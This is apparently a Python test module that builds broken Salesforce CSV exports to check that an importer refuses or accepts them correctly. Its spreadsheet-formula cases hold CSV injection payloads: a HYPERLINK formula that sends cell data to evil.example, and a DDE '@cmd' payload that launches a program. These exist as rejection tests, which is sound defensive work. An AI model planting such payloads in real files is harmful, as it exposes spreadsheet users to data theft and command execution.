"""A corpus of broken imports: the real Salesforce sample with one thing broken per case.

Each ``Case`` names the files to write (as bytes, so encodings and binary junk are exact),
what to import, and what must come of it: refused (with the fragments its message must
hold and the rejected rows the rejects file must list), imported (with the notices it must
give), or skipped. ``tests/test_bad_input.py`` runs every case against a database
pre-loaded with ``tests/data/salesforce`` and checks that a refused import changes nothing.
"""

from __future__ import annotations

import csv
import io
import random
import zlib
from dataclasses import dataclass, field
from datetime import datetime

from testdata import TEST_DATA

__all__ = ["CASES", "SAMPLE", "Case"]

SAMPLE = TEST_DATA / "salesforce"
OPP, HIST, ACC = "opportunity.csv", "OpportunityHistory.csv", "account.csv"
BASE = {name: (SAMPLE / name).read_bytes() for name in (OPP, HIST, ACC)}


@dataclass(frozen=True)
class Case:
    """One broken (or tricky but fine) input and what the importer must make of it.

    ``outcome`` is "error" (refused: ``error`` is the exception class name, ``expect``
    the fragments of its message), "ok" (imported: ``expect`` are fragments of its
    notices, ``stored`` deal fields that must be in the database afterwards) or "skipped"
    (the same files were imported before). ``rejects`` are the (file, line, column) rows
    the rejects file beside the database must hold.
    """

    name: str
    files: dict[str, bytes]
    expect: tuple[str, ...]
    outcome: str = "error"
    error: str = "InputError"
    rejects: tuple[tuple[str, int | None, str | None], ...] = ()
    paths: tuple[str, ...] = (".",)
    as_of: datetime | None = None
    stored: dict[str, dict[str, object]] = field(default_factory=dict)
    max_rejects: int = 0
    absent: tuple[str, ...] = ()
    """Fragments the message must not hold."""
    known_bug: str = ""
    """Why the case fails today (a bug in a file this corpus does not own): run as xfail."""


# -- building broken files --------------------------------------------------------------


def rows_of(name: str) -> list[list[str]]:
    """The sample file ``name`` as records (header first)."""
    return list(csv.reader(io.StringIO(BASE[name].decode("utf-8"), newline="")))


def to_csv(
    rows: list[list[str]], *, delimiter: str = ",", quote_all: bool = True, newline: str = "\n"
) -> str:
    """Records as CSV text the way Salesforce writes it (every field quoted)."""
    out = io.StringIO()
    writer = csv.writer(
        out,
        delimiter=delimiter,
        quoting=csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL,
        lineterminator=newline,
    )
    writer.writerows(rows)
    return out.getvalue()


def edited(name: str, row: int, column: str, value: str) -> bytes:
    """The sample file with data row ``row`` (1-based, so on line row + 1) changed."""
    rows = rows_of(name)
    rows[row][rows[0].index(column)] = value
    return to_csv(rows).encode()


def cell(name: str, row: int, column: str) -> str:
    rows = rows_of(name)
    return rows[row][rows[0].index(column)]


def sample(**replaced: bytes) -> dict[str, bytes]:
    """The three sample files, with some replaced (keys: opp, hist, acc)."""
    names = {"opp": OPP, "hist": HIST, "acc": ACC}
    files = dict(BASE)
    for key, content in replaced.items():
        files[names[key]] = content
    return files


def opp_edit(row: int, column: str, value: str) -> dict[str, bytes]:
    return sample(opp=edited(OPP, row, column, value))


REPORT_HEADER = [
    "Opportunity Owner",
    "Account Name",
    "Opportunity Name",
    "Stage",
    "Amount",
    "Probability (%)",
    "Close Date",
    "Created Date",
    "Type",
]
REPORT_ROWS = [
    ["Ann Lee", "Acme, Inc.", "Acme renewal 2024", "Negotiation/Review", "$12,500.00", "90",
     "06/28/2024", "03/01/2024 9:05 AM", "Existing Customer - Renewal"],
    ["Ann Lee", "Globex", "Globex new logo", "Closed Won", "$8,000", "100", "03/29/2024",
     "01/15/2024 2:30 PM", "New Customer"],
    ["Bo Chen", "Initech", "Initech upsell", "Closed Lost", "4,250.50", "0", "02/02/2024",
     "11/20/2023 11:59 PM", "Existing Customer - Upgrade"],
]  # fmt: skip
"""A hand-made Salesforce report: labels, US dates, AM/PM times, no Won/Closed columns."""


def report(row: int | None = None, column: str | None = None, value: str = "") -> bytes:
    rows = [list(REPORT_HEADER), *(list(r) for r in REPORT_ROWS)]
    if row is not None and column is not None:
        rows[row][REPORT_HEADER.index(column)] = value
    return to_csv(rows).encode()


def report_case(name: str, row: int, column: str, value: str, *expect: str) -> Case:
    return Case(
        name,
        {"report.csv": report(row, column, value)},
        ("report.csv", f"line {row + 1}", *expect),
        error="RejectsExceeded",
        rejects=(("report.csv", row + 1, REPORT_LABEL_COLUMNS.get(column, column)),),
    )


REPORT_LABEL_COLUMNS = {"Stage": "StageName", "Amount": "Amount", "Close Date": "CloseDate",
                        "Created Date": "CreatedDate", "Opportunity Name": "Name",
                        "Probability (%)": "Probability"}  # fmt: skip
"""Rejects name a report's columns by the API field they show."""


def rejected(name: str, row: int, column: str, value: str, *expect: str) -> Case:
    """The sample with one opportunity cell broken: refused, naming the file, line, column."""
    return Case(
        name,
        opp_edit(row, column, value),
        (OPP, f"line {row + 1}", f"column {column}", *expect),
        error="RejectsExceeded",
        rejects=((OPP, row + 1, column),),
        paths=(OPP, ACC),
    )


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return len(data).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")

    ihdr = (1).to_bytes(4, "big") * 2 + bytes([8, 0, 0, 0, 0])
    pixels = zlib.compress(b"\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def _xlsx() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as book:
        book.writestr("[Content_Types].xml", "<Types/>")
        book.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


def _pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def _binary() -> bytes:
    return random.Random(7).randbytes(4096) + b"\x00" * 16


def _cut_mid_row() -> bytes:
    """The sample cut after the tenth field of its last row (a download that stopped)."""
    text = BASE[OPP].decode()
    start = text.rstrip("\n").rindex("\n") + 1
    at = start
    for _ in range(10):
        at = text.index('","', at) + 1
    return text[:at].encode()


def _line_of(text: bytes) -> int:
    """Line of the last occurrence of ``text`` in the sample Opportunity file."""
    return BASE[OPP][: BASE[OPP].rindex(text)].count(b"\n") + 1


def _opp_lines() -> list[str]:
    return BASE[OPP].decode().splitlines(keepends=True)


# -- the cases ------------------------------------------------------------------------------

_OPP_ROWS = rows_of(OPP)
_LAST = len(_OPP_ROWS) - 1  # data rows; the last one is on line _LAST + 1
_ID1 = _OPP_ROWS[1][0]
_HEADER = _OPP_ROWS[0]


def _duplicate_id() -> bytes:
    rows = rows_of(OPP)
    copy = list(rows[3])
    copy[0] = rows[1][0]  # the id of row 1, with row 3's values
    rows.append(copy)
    return to_csv(rows).encode()


def _exact_duplicate() -> bytes:
    rows = rows_of(OPP)
    rows.append(list(rows[2]))
    return to_csv(rows).encode()


def _too_many_fields() -> bytes:
    lines = _opp_lines()
    lines[4] = lines[4].rstrip("\n") + ',"extra"\n'
    return "".join(lines).encode()


def _without_column(column: str) -> bytes:
    rows = rows_of(OPP)
    at = rows[0].index(column)
    return to_csv([r[:at] + r[at + 1 :] for r in rows]).encode()


def _header_renamed(at: int, name: str) -> bytes:
    rows = rows_of(OPP)
    rows[0][at] = name
    return to_csv(rows).encode()


def _semicolons_with_decimal_commas() -> bytes:
    """A European export: semicolons between fields, commas in the amounts."""
    rows = rows_of(OPP)
    for row in rows[1:]:
        for column in ("Amount", "ExpectedRevenue"):
            at = rows[0].index(column)
            row[at] = row[at] + ",00" if row[at] else row[at]
    return to_csv(rows, delimiter=";", quote_all=False).encode()


def _whole_line_quoted() -> bytes:
    """Each line is one quoted field holding the whole comma-separated record (a CSV
    pasted into one spreadsheet column and saved again)."""
    lines = to_csv(rows_of(OPP), quote_all=False).splitlines()
    return "".join('"' + line.replace('"', '""') + '"\n' for line in lines).encode()


def _mixed_line_endings() -> bytes:
    lines = _opp_lines()
    return "".join(
        line.rstrip("\n") + ("\r\n" if i % 2 else "\n") for i, line in enumerate(lines)
    ).encode()


def _quoted_newline() -> bytes:
    return edited(OPP, 1, "Name", "Dickenson Mobile\nGenerators (phase 2)")


def _utf16() -> bytes:
    text = to_csv(rows_of(OPP), delimiter="\t", quote_all=False, newline="\r\n")
    return text.encode("utf-16")  # with a byte-order mark, little-endian: Excel's Unicode text


def _cp1252() -> bytes:
    return edited(OPP, 1, "Name", "Café Générateurs €").decode().encode("cp1252")


def _mixed_encoding() -> bytes:
    """Mostly UTF-8, but one row pasted in from a cp1252 file."""
    utf8 = edited(OPP, 1, "Name", "Café Générateurs €").decode()
    return utf8.encode().replace(b"United Oil SLA", "United Oil SLA – Øst".encode("cp1252"))


def _cut_mid_character() -> bytes:
    """A UTF-8 file (fields quoted only where needed) cut inside a two-byte character."""
    rows = rows_of(OPP)
    rows[1][rows[0].index("Name")] = "Café Générateurs"
    rows[_LAST][rows[0].index("Name")] = "Grand Hotels Généreux"
    data = to_csv(rows, quote_all=False).encode()
    return data[: data.rindex("é".encode()) + 1]


def _history_unknown_deal() -> bytes:
    rows = rows_of(HIST)
    copy = list(rows[1])
    copy[0] = "008Hp00002evzzzIAQ"
    copy[1] = "006Hp000015Yzz9IAC"
    rows.append(copy)
    return to_csv(rows).encode()


def _close_before_create() -> bytes:
    return edited(OPP, 1, "CloseDate", "2001-01-31 00:00:00")


def _huge() -> bytes:
    return edited(OPP, 2, "Description", "x" * 2_000_000)


_DDE = "@cmd|' /C calc'!A0"

CASES: list[Case] = [
    # -- not a CSV at all, or nothing in it ---------------------------------------------
    Case("empty file", {OPP: b""}, (OPP, "the file is empty"), paths=(OPP,)),
    Case("whitespace only", {OPP: b"  \n\r\n\t\n"}, (OPP, "the file is empty"), paths=(OPP,)),
    Case("byte-order mark only", {OPP: b"\xef\xbb\xbf"}, (OPP, "line 1", "header"), paths=(OPP,)),
    Case("binary junk", {OPP: _binary()}, (OPP, "binary file"), paths=(OPP,)),
    Case("png image", {OPP: _png()}, (OPP, "is a PNG image"), paths=(OPP,)),
    Case("excel workbook", {OPP: _xlsx()}, (OPP, "Excel workbook", "CSV UTF-8"), paths=(OPP,)),
    Case("pdf", {OPP: _pdf()}, (OPP, "is a PDF"), paths=(OPP,)),
    Case("no such path", {}, ("missing.csv", "no such file or folder"), paths=("missing.csv",)),
    Case(
        "folder without csv",
        {"notes.md": b"# nothing here\n"},
        ("the folder holds no .csv files",),
        paths=(".",),
    ),
    # -- cut off ----------------------------------------------------------------------------
    Case(
        "cut mid-row",
        sample(opp=_cut_mid_row()),
        (OPP, f"line {_LAST + 1}", "row has 10 fields, the header has 43", "cut off"),
        error="RejectsExceeded",
        rejects=((OPP, _LAST + 1, None),),
        paths=(OPP, ACC),
    ),
    Case(
        "cut inside a quoted field",
        sample(opp=BASE[OPP][: BASE[OPP].rindex(b"Grand Hotels") + 5]),
        (OPP, f"line {_line_of(b'Grand Hotels')}", "ends inside a quoted field", "cut off"),
    ),
    Case(
        "cut inside a character",
        sample(opp=_cut_mid_character()),
        (OPP, f"line {_LAST + 1}", "ends in the middle of a character", "cut off"),
    ),
    # -- wrong shape ------------------------------------------------------------------------
    Case(
        "whole line quoted (wrong delimiter)",
        {OPP: _whole_line_quoted()},
        (OPP, "cannot tell what this file is", "one single column", "delimiter"),
        paths=(OPP,),
    ),
    Case(
        "semicolons with decimal commas",
        {OPP: _semicolons_with_decimal_commas()},
        (),
        outcome="ok",
        paths=(OPP,),
        stored={_ID1: {"amount": "15000.00"}},
    ),
    Case(
        "missing StageName column",
        {OPP: _without_column("StageName")},
        (OPP, "cannot tell what this file is", "Id, IsDeleted, AccountId", "StageName"),
        paths=(OPP,),
    ),
    Case(
        "missing StageName column in a folder",
        sample(opp=_without_column("StageName")),
        (OPP, "StageName"),
    ),
    Case(
        "header only",
        {OPP: BASE[OPP].split(b"\n")[0] + b"\n"},
        (OPP, "no rows"),
        paths=(OPP,),
    ),
    Case(
        "duplicate header name",
        {OPP: _header_renamed(_HEADER.index("ExpectedRevenue"), "Amount")},
        (OPP, "line 1", "'Amount' appears twice", "columns 9 and 11"),
        paths=(OPP,),
    ),
    Case(
        "blank header cell",
        {OPP: _header_renamed(_HEADER.index("NextStep"), "")},
        (OPP, "line 1", f"column {_HEADER.index('NextStep') + 1} of the header has no name"),
        paths=(OPP,),
    ),
    Case(
        "row with too many fields",
        sample(opp=_too_many_fields()),
        (OPP, "line 5", "row has 44 fields, the header has 43"),
        error="RejectsExceeded",
        rejects=((OPP, 5, None),),
        paths=(OPP, ACC),
    ),
    Case(
        "history of a rejected opportunity",
        sample(opp=_too_many_fields()),
        (OPP, "line 5", HIST),
        error="RejectsExceeded",
        absent=("not in the Opportunity file",),
    ),
    Case(
        "huge field",
        sample(opp=_huge()),
        (OPP, "line 3", "column Description", "longer than 1,000,000 characters"),
        error="RejectsExceeded",
        rejects=((OPP, 3, "Description"),),
        paths=(OPP, ACC),
    ),
    # -- duplicates ---------------------------------------------------------------------------
    Case(
        "duplicate id with different values",
        sample(opp=_duplicate_id()),
        (OPP, "line 2", f"also on line {_LAST + 2}", "duplicate opportunity Id"),
        error="RejectsExceeded",
        rejects=((OPP, 2, None), (OPP, _LAST + 2, None)),
        paths=(OPP, ACC),
    ),
    Case(
        "duplicate id: the reject names the file's column",
        sample(opp=_duplicate_id()),
        (f"{OPP}, line 2, column Id:",),
        error="RejectsExceeded",
        rejects=((OPP, 2, "Id"), (OPP, _LAST + 2, "Id")),
        paths=(OPP, ACC),
    ),
    Case(
        "exact duplicate row",
        sample(opp=_exact_duplicate()),
        (OPP, "1 row repeats an earlier opportunity Id exactly; read once"),
        outcome="ok",
    ),
    # -- amounts and numbers ----------------------------------------------------------------
    rejected("negative amount", 2, "Amount", "-5000", "'-5000'", "is negative"),
    rejected("non-numeric amount", 2, "Amount", "lots", "'lots'", "is not an amount"),
    rejected("amount 1,2,3", 2, "Amount", "1,2,3", "'1,2,3'", "is not an amount"),
    rejected("amount too big", 2, "Amount", "12345678901234567", "is not an amount"),
    rejected("probability 150", 4, "Probability", "150", "'150'", "is above 100"),
    rejected("boolean maybe", 4, "IsWon", "maybe", "'maybe'", "is not true/false"),
    # -- dates ------------------------------------------------------------------------------
    rejected("february 30", 5, "CloseDate", "2024-02-30", "'2024-02-30'", "not a real date"),
    rejected("month 13 day 45", 5, "CloseDate", "13/45/2024", "'13/45/2024'", "not a real date"),
    rejected(
        "time 24:61", 6, "CreatedDate", "2023-10-28 24:61:00", "24:61", "not a real date or time"
    ),
    rejected("year 0024", 7, "CloseDate", "0024-05-01", "'0024-05-01'", "not a real date"),
    rejected("not a date", 7, "CloseDate", "next quarter", "is not a date"),
    rejected("empty close date", 8, "CloseDate", "", "is empty; a date is required"),
    Case(
        "close before create",
        sample(opp=_close_before_create()),
        (OPP, "column CloseDate", "close before they were created", "lines 2,"),
        outcome="ok",
        stored={_ID1: {"close_date": "2001-01-31"}},
    ),
    # -- ids and references -----------------------------------------------------------------
    rejected("empty id", 9, "Id", "", "is empty; a value is required"),
    Case(
        "history of an unknown opportunity",
        sample(hist=_history_unknown_deal()),
        (HIST, f"line {len(rows_of(HIST)) + 1}", "column OpportunityId", "not in the Opportunity"),
        error="RejectsExceeded",
        rejects=((HIST, len(rows_of(HIST)) + 1, "OpportunityId"),),
    ),
    # -- spreadsheet formulas ---------------------------------------------------------------
    rejected(
        "hyperlink formula in name",
        10,
        "Name",
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "spreadsheet formula",
    ),
    rejected("sum formula in amount", 10, "Amount", "+SUM(A1)", "spreadsheet formula"),
    rejected("dde payload in name", 11, "Name", _DDE, "spreadsheet formula"),
    Case(
        "at sign in name",
        opp_edit(11, "Name", "@cmd"),
        (),
        outcome="ok",
        stored={_OPP_ROWS[11][0]: {"name": "@cmd"}},
    ),
    # -- reports (labels instead of API names) ----------------------------------------------
    report_case(
        "report: unknown stage",
        2,
        "Stage",
        "Maybe Later",
        "'Maybe Later'",
        "known stage",
        "Won and Closed columns",
    ),
    report_case("report: impossible date", 1, "Close Date", "02/30/2024", "not a real date"),
    report_case("report: formula", 3, "Opportunity Name", "=1+1", "spreadsheet formula"),
    report_case("report: amount with letters", 1, "Amount", "12k", "is not an amount"),
    # -- encodings and line endings that must import fine -----------------------------------
    Case(
        "utf-16 tab-separated",
        {OPP: _utf16()},
        (),
        outcome="ok",
        paths=(OPP,),
        stored={_ID1: {"name": "Dickenson Mobile Generators", "amount": "15000.00"}},
    ),
    Case(
        "cp1252 with euro sign",
        {OPP: _cp1252()},
        (),
        outcome="ok",
        paths=(OPP,),
        stored={_ID1: {"name": "Café Générateurs €"}},
    ),
    Case(
        "utf-8 byte-order mark",
        {OPP: b"\xef\xbb\xbf" + BASE[OPP]},
        (),
        outcome="ok",
        paths=(OPP,),
        stored={_ID1: {"deal_id": _ID1}},
    ),
    Case(
        "mixed line endings",
        {OPP: _mixed_line_endings()},
        (),
        outcome="ok",
        paths=(OPP,),
        stored={_ID1: {"name": "Dickenson Mobile Generators"}},
    ),
    Case(
        "quoted newline in a name",
        {OPP: _quoted_newline()},
        (),
        outcome="ok",
        paths=(OPP,),
        stored={_ID1: {"name": "Dickenson Mobile\nGenerators (phase 2)"}},
    ),
    Case(
        "mixed encodings",
        {OPP: _mixed_encoding()},
        (OPP, "line 3", "byte 0x96 is not UTF-8", "save the file as CSV UTF-8"),
        paths=(OPP,),
    ),
    # -- the import as a whole --------------------------------------------------------------
    Case(
        "as-of older than the last import",
        sample(opp=_close_before_create()),
        ("older than data already imported", "--as-of"),
        error="DataError",
        as_of=datetime(2020, 1, 1),
    ),
    Case("re-import of the same files", sample(), ("already imported",), outcome="skipped"),
]
